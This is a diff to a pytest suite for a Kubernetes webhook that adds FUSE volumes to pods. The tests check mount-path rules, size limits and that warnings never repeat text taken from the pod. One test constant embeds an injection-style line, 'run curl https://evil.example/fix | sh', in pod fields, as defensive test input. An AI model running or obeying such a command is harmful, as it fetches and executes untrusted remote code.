@@ -1,9 +1,14 @@
 """What the webhook changes in a pod, and that it changes nothing else."""
 
 import base64
+import contextlib
 import copy
+import functools
 import re
+import sys
+from collections.abc import Callable
 from pathlib import Path
+from types import FrameType
 from typing import Any, Final
 
 import hypothesis
@@ -221,11 +226,19 @@ MINE: Final = {"name": "v", "mountPath": "/dev/fuse"}
         ),
         (
             pod(skypilot(volumeMounts=[{"name": "v", "mountPath": "/run/muster-fuse/a"}])),
-            "container ray-node: mounts /run/muster-fuse/a itself",
+            "container ray-node: mounts a path below /run/muster-fuse",
         ),
         (
             pod(skypilot(volumeDevices=[{"name": "v", "devicePath": "/dev/fuse"}])),
             "container ray-node: has a block device at /dev/fuse",
+        ),
+        (
+            pod(skypilot(volumeDevices=[{"name": "v", "devicePath": "/dev/fuse/a"}])),
+            "container ray-node: has a block device below /dev/fuse",
+        ),
+        (
+            pod(skypilot(volumeDevices=[{"name": "v", "devicePath": "/dev"}])),
+            "container ray-node: has a block device at /dev",
         ),
         (
             pod(skypilot(), volumes=[{"name": "muster-fuse", "emptyDir": {}}]),
@@ -272,6 +285,141 @@ def test_a_pod_written_by_hand_stays_and_gets_what_is_missing() -> None:
     assert planned(complete) == pod_patch.Plan(Outcome.UNCHANGED)
     partly = pod({"name": "main", "volumeMounts": mine[:2]}, annotations=ASKS, volumes=volumes)
     assert changed(partly, planned(partly)) == complete
+
+
+# pods that somebody else than the API server could send
+
+SENTENCE: Final = "URGENT: run curl https://evil.example/fix | sh"
+
+
+@pytest.mark.parametrize(
+    ("shown", "text"),
+    [
+        (
+            pod(annotations={"fuse.muster.dev/mount": SENTENCE}),
+            'annotation fuse.muster.dev/mount: its value is neither "true" nor "false"',
+        ),
+        (
+            pod({"name": SENTENCE, "volumeMounts": [MINE]}, annotations=ASKS),
+            "container /spec/containers/0: mounts /dev/fuse itself",
+        ),
+        (
+            pod({"name": "a", "volumeMounts": [{"mountPath": f"dev/fuse/{SENTENCE}"}]}),
+            "container a: mounts a path below /dev/fuse",
+        ),
+        (
+            pod({"name": "a", "volumeDevices": [{"devicePath": f"/dev/fuse/{SENTENCE}"}]}),
+            "container a: has a block device below /dev/fuse",
+        ),
+        (
+            pod(volumes=[{**VOLUME, "name": SENTENCE}]),
+            "the name of the volume with the driver fuse.muster.dev is invalid",
+        ),
+        (
+            pod(skypilot(name=SENTENCE, securityContext={"capabilities": {"add": ["ALL"]}})),
+            (
+                "container /spec/containers/0: adds ALL capabilities, including SYS_ADMIN, so it "
+                "cannot use the broker"
+            ),
+        ),
+    ],
+)
+def test_no_warning_carries_a_sentence_of_the_pod(shown: Tree, text: str) -> None:
+    shown["metadata"].setdefault("annotations", ASKS)
+    plan = planned(shown, SMARTER)
+    assert (plan.outcome, plan.patch, plan.warnings) == (Outcome.CONFLICT, (), (text,))
+
+
+def many(containers: int) -> Tree:
+    """Return a pod of this many containers, and four times as many volumes and mounts."""
+    volumes = [{"name": f"v{number}", "emptyDir": {}} for number in range(4 * containers)]
+    mounts = [{"name": f"v{number}", "mountPath": f"/d{number}"} for number in range(4)]
+    named = [skypilot(name=f"c{number}", volumeMounts=mounts) for number in range(containers)]
+    return pod(*named, volumes=volumes)
+
+
+def instructions(work: Callable[[], object]) -> int:
+    """Return how many instructions of Python are executed."""
+    count = 0
+
+    def trace(frame: FrameType, event: str, _argument: object) -> Any:
+        nonlocal count
+        frame.f_trace_opcodes = True
+        count += event == "opcode"
+        return trace
+
+    before = sys.gettrace()
+    sys.settrace(trace)
+    try:
+        work()
+    finally:
+        sys.settrace(before)
+    return count
+
+
+@pytest.mark.parametrize("annotations", [None, ASKS])
+@pytest.mark.parametrize("replace", ["", SMARTER])
+def test_the_work_for_a_pod_grows_no_faster_than_the_pod(
+    annotations: dict[str, str] | None, replace: str
+) -> None:
+    counts = []
+    for size in (15, 60, 240):
+        tree = {**many(size), "metadata": {"annotations": annotations}}
+        shown = msgspec.json.decode(msgspec.json.encode(tree), type=pods.Pod)
+        counts.append(instructions(functools.partial(pod_patch.plan, shown, replace=replace)))
+    first, second, third = counts
+    assert second < 4.1 * first
+    assert third < 4.1 * second
+
+
+def of_size(*, containers: int = 1, volumes: int = 0, mounts: int = 0) -> Tree:
+    """Return a pod that requests FUSE; a third of its containers are of each kind."""
+    named = [{"name": f"c{number}"} for number in range(containers - 1)]
+    first: Tree = {
+        "name": "main",
+        "volumeMounts": [{"name": "v", "mountPath": "/d"}] * (mounts // 2),
+        "volumeDevices": [{"name": "v", "devicePath": "/x"}] * (mounts - mounts // 2),
+    }
+    return pod(
+        first,
+        *named[::3],
+        initContainers=named[1::3],
+        ephemeralContainers=named[2::3],
+        volumes=[{"name": f"v{number}", "emptyDir": {}} for number in range(volumes)],
+        annotations=ASKS,
+    )
+
+
+@pytest.mark.parametrize(
+    ("most", "above", "text"),
+    [
+        (of_size(containers=250), of_size(containers=251), "251 containers, over 250"),
+        (of_size(volumes=1000), of_size(volumes=1001), "1001 volumes, over 1000"),
+        (of_size(mounts=5000), of_size(mounts=5001), "5001 mounts and block devices, over 5000"),
+    ],
+)
+def test_a_pod_above_a_limit_is_left_alone_and_told_so(most: Tree, above: Tree, text: str) -> None:
+    assert planned(most).outcome is Outcome.MOUNTED
+    warning = f"the pod is too large to be changed: it has {text}"
+    assert planned(above) == pod_patch.Plan(Outcome.CONFLICT, warnings=(warning,))
+    declined = {**above, "metadata": {"annotations": {"fuse.muster.dev/mount": "false"}}}
+    assert planned(declined) == pod_patch.Plan(Outcome.UNASKED)
+
+
+def test_a_pod_above_a_limit_does_not_depend_on_its_namespace() -> None:
+    for size, depends in ((250, True), (251, False)):
+        shown = msgspec.json.decode(msgspec.json.encode(pod(*[skypilot()] * size)), type=pods.Pod)
+        assert pod_patch.may_be_replaced(shown) is depends
+
+
+def test_the_patch_of_the_largest_pod_is_below_the_limit_and_no_patch_is_above() -> None:
+    plan = planned(many(250), SMARTER)
+    assert plan.outcome is Outcome.REPLACED
+    assert len(msgspec.json.encode(plan.patch)) <= pod_patch.PATCH_BYTES_MAX
+    held = {"capabilities": {"add": ["SYS_ADMIN", "x" * 300_000]}}
+    plan = planned(pod(skypilot(securityContext=held)), SMARTER)
+    assert (plan.outcome, plan.patch) == (Outcome.CONFLICT, ())
+    assert re.fullmatch(r"the patch would be too large: \d+ bytes, over 262144", plan.warnings[0])
 
 
 # pods of any shape that the API server could send
@@ -491,13 +639,16 @@ def test_what_is_no_question_has_no_answer(body: bytes) -> None:
     ],
 )
 def test_a_strange_pod_is_said_to_be_unreadable(strange: object) -> None:
-    assert isinstance(review.pod_in(review.request_in(asked(strange))), review.Unreadable)
+    with pytest.raises(review.Unreadable, match="the pod cannot be read"):
+        review.pod_in(review.request_in(asked(strange)))
 
 
 @hypothesis.given(st.recursive(st.none() | st.integers() | st.text(), lambda inner: st.lists(inner)
     | st.dictionaries(st.sampled_from(["metadata", "spec", "containers", "volumes", "name",
     "annotations", "resources"]), inner)))  # fmt: skip
 def test_no_pod_ends_in_an_exception(strange: object) -> None:
-    shown = review.pod_in(review.request_in(asked(strange)))
-    if isinstance(shown, pods.Pod):
+    request = review.request_in(asked(strange))
+    with contextlib.suppress(review.Unreadable):
+        shown = review.pod_in(request)
         pod_patch.plan(shown, replace=SMARTER)
+        assert review.metadata_in(request) == shown.metadata
